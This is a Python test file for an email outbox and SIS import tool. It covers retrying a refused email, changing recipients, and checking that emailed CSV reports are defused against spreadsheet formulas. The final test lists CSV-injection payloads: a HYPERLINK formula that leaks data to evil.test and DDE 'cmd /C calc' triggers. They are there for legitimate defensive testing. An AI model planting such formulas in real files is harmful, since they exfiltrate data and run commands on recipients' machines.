"""An operator looks after a district's emails while `rosterdrop serve` runs: `outbox list` shows
an email the relay refused, `outbox retry` has the running daemon send it again, and `tenant set
--email` sends the next import's emails to the new addresses. A real SMTP relay (aiosmtpd) on
loopback receives them."""

from __future__ import annotations

import csv
import io
import json
import threading
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

from tests.support.clever import FIXTURES
from tests.support.drop import District
from tests.support.process import Relay, wait_until
from tests.support.site import Site, upload

ADMIN = "admin@acme.example.org"
# The daemon looks for emails queued by other processes (an operator's retry) this often.
SENDER_POLL_SECONDS = 5.0
pytestmark = pytest.mark.slow


class Switchboard:
    """A relay's inbox that refuses every recipient for good (550, say a relay that does not yet
    know our server) until it is told to accept; then it keeps what it accepts."""

    def __init__(self) -> None:
        self.received: list[tuple[list[str], bytes]] = []
        self.lock = threading.Lock()
        self.accepting = False

    async def handle_RCPT(
        self, server: Any, session: Any, envelope: Any, address: str, options: list[str]
    ) -> str:
        if not self.accepting:
            return "550 5.7.1 Relaying denied"
        envelope.rcpt_tos.append(address)
        return "250 OK"

    async def handle_DATA(self, server: Any, session: Any, envelope: Any) -> str:
        with self.lock:
            self.received.append((list(envelope.rcpt_tos), envelope.content))
        return "250 Message accepted for delivery"


def relayed_by(relay: Relay) -> dict[str, str]:
    return {
        "ROSTERDROP_SMTP_HOST": "127.0.0.1",
        "ROSTERDROP_SMTP_PORT": str(relay.port),
        "ROSTERDROP_SMTP_TLS": "none",
    }


def run(site: Site, *args: str) -> str:
    result = site.cli(*args)
    assert result.returncode == 0, result.stderr
    return str(result.stdout)


def outbox(site: Site, *args: str) -> list[dict[str, Any]]:
    listed: list[dict[str, Any]] = json.loads(run(site, "outbox", "list", "--json", *args))
    return listed


@pytest.fixture
def relay() -> Iterator[Relay]:
    server = Relay().start()
    yield server
    server.stop()


def test_an_email_the_relay_refused_is_listed_and_sent_again_on_retry(
    make_site: Callable[..., Site],
) -> None:
    relay = Relay()
    switchboard = Switchboard()
    relay.inbox = switchboard  # type: ignore[assignment]
    relay.start()
    site = make_site(**relayed_by(relay))
    site.add_tenant("acme", ADMIN)
    try:
        with site.daemon() as daemon:
            daemon.ready()
            upload(daemon.sftp_port, "acme", District("acme").files())
            daemon.wait_for("notify.email_failed", 30, import_id=1)

            [refused] = outbox(site)
            assert refused == {
                **refused,
                "id": 1,
                "kind": "import_results",
                "state": "failed",
                "subject": "Import Results: acme import #1 — imported",
                "recipients": [ADMIN],
                "attempts": 1,
                "sent_at": None,
            }
            assert "550" in refused["last_error"]
            assert "Relaying denied" in refused["last_error"]
            assert outbox(site, "--state", "failed") == [refused]
            assert outbox(site, "--state", "pending") == []
            [readable] = run(site, "outbox", "list").splitlines()
            assert readable.split()[:3] == ["#1", "failed", "import_results"]
            assert "Import Results: acme import #1" in readable
            assert "Relaying denied" in readable
            assert relay.messages() == []

            switchboard.accepting = True  # the relay's administrator fixed it
            retried = run(site, "outbox", "retry", "1")
            assert "email #1 will be sent to admin@acme.example.org on the" in retried
            results = relay.wait_for("Import Results: acme import #1", 3 * SENDER_POLL_SECONDS)
            assert results["To"] == ADMIN
            wait_until(lambda: outbox(site, "--state", "sent"), 10, "the email marked sent")

            [sent] = outbox(site)
            assert (sent["state"], sent["attempts"]) == ("sent", 2)
            assert sent["sent_at"] is not None
            again = site.cli("outbox", "retry", "1")
            assert again.returncode == 2
            assert "outbox message 1 was already sent" in again.stderr
            unknown = site.cli("outbox", "retry", "99")
            assert unknown.returncode == 2
            assert "no outbox message 99" in unknown.stderr
            assert daemon.stop() == 0
    finally:
        relay.stop()

    [(recipients, _)] = relay.messages()
    assert recipients == [ADMIN]
    assert [line["message_id"] for line in daemon.find("notify.email_sent")] == [1]


def test_tenant_set_email_sends_the_next_imports_emails_to_the_new_addresses(
    make_site: Callable[..., Site], relay: Relay
) -> None:
    site = make_site(**relayed_by(relay))
    site.add_tenant("acme", ADMIN)

    with site.daemon() as daemon:
        daemon.ready()
        upload(daemon.sftp_port, "acme", District("acme", students=12).files())
        relay.wait_for("Import Results: acme import #1")

        bad = site.cli("tenant", "set", "acme", "--email", "registrar at acme")
        assert bad.returncode == 2
        assert "not an email address: registrar at acme" in bad.stderr
        changed = json.loads(
            run(site, "tenant", "set", "acme",
                "--email", "Registrar@Acme.example.org", "--email", "it@acme.example.org")
        )  # fmt: skip
        assert changed["emails"] == ["registrar@acme.example.org", "it@acme.example.org"]

        upload(daemon.sftp_port, "acme", District("acme", students=14).files())
        second = relay.wait_for("Import Results: acme import #2")
        assert daemon.stop() == 0

    (first_to, first), (second_to, _) = relay.messages()
    assert first_to == [ADMIN]
    assert first["To"] == ADMIN
    assert sorted(second_to) == ["it@acme.example.org", "registrar@acme.example.org"]
    assert second["To"] == "registrar@acme.example.org, it@acme.example.org"
    assert second["Subject"] == "Import Results: acme import #2 — imported"


def test_an_email_with_no_recipients_is_sent_after_the_addresses_are_fixed(
    make_site: Callable[..., Site], relay: Relay
) -> None:
    site = make_site(**relayed_by(relay))
    site.add_tenant("acme")  # nobody to tell yet
    imported = site.cli("import", str(FIXTURES / "sis_export"), "--tenant", "acme")
    assert imported.returncode == 0, imported.stderr

    [unsent] = outbox(site)
    assert (unsent["state"], unsent["last_error"], unsent["recipients"]) == (
        "failed", "no recipients", [],
    )  # fmt: skip
    # Nobody to send it to yet: the retry says what to fix.
    refused = site.cli("outbox", "retry", str(unsent["id"]))
    assert refused.returncode == 2
    assert "rosterdrop tenant set acme --email" in refused.stderr
    # The fix is the tenant's addresses; a retry sends the email to them.
    run(site, "tenant", "set", "acme", "--email", ADMIN)
    run(site, "outbox", "retry", str(unsent["id"]))
    sent = run(site, "outbox", "send")

    assert "1 email(s) delivered" in sent, outbox(site)
    [(recipients, message)] = relay.messages()
    assert recipients == [ADMIN]
    assert message["To"] == ADMIN


# What an SIS export can carry that a spreadsheet would run (OWASP's CSV-injection triggers,
# Excel's DDE and HYPERLINK, LibreOffice's functions, the full-width forms).
FORMULAS = [
    '=HYPERLINK("http://evil.test/?leak="&B2,"Click to fix")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=2+2",
    " =1+1",
    "\uff1dcmd|' /C calc'!A0",
]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def with_formulas(district: District) -> dict[str, bytes]:
    """The district's students with grades (and an extra column's name) that are formulas:
    each is a warning that quotes it."""
    files = district.files()
    rows = list(csv.reader(io.StringIO(files["students.csv"].decode())))
    assert rows[0][-1] == "grade"
    header = [*rows[0], "=1+1"]
    body = [
        [*row[:-1], FORMULAS[n % len(FORMULAS)] if n < len(FORMULAS) else "05", "x"]
        for n, row in enumerate(rows[1:])
    ]
    out = io.StringIO()
    csv.writer(out, lineterminator="\r\n").writerows([header, *body])
    return files | {"students.csv": out.getvalue().encode()}


def test_the_attached_problem_report_runs_no_formula_in_a_spreadsheet(
    make_site: Callable[..., Site], relay: Relay, tmp_path: Path
) -> None:
    site = make_site(**relayed_by(relay))
    site.add_tenant("acme", ADMIN)
    folder = tmp_path / "upload"
    folder.mkdir()
    for name, data in with_formulas(District("acme", students=12)).items():
        (folder / name).write_bytes(data)

    site.cli("import", str(folder), "--tenant", "acme")  # bad grades: only the values go
    run(site, "outbox", "send")

    [(_, results)] = relay.messages()
    assert results["Subject"] == "Import Results: acme import #1 — imported"
    [part] = list(results.iter_attachments())
    rows = list(csv.reader(io.StringIO(str(part.get_content()).lstrip("\ufeff"), newline="")))
    values = [row[5] for row in rows[1:]]
    assert len(values) >= len(FORMULAS), rows
    cells = [cell for row in rows for cell in row]
    assert [c for c in cells if c[:1] in TRIGGERS or c.lstrip()[:1] in TRIGGERS] == []
    # The district still reads what its export said, behind the quote that defuses it.
    assert "'=cmd|' /C calc'!A0" in values
    assert "'\uff1dcmd|' /C calc'!A0" in values
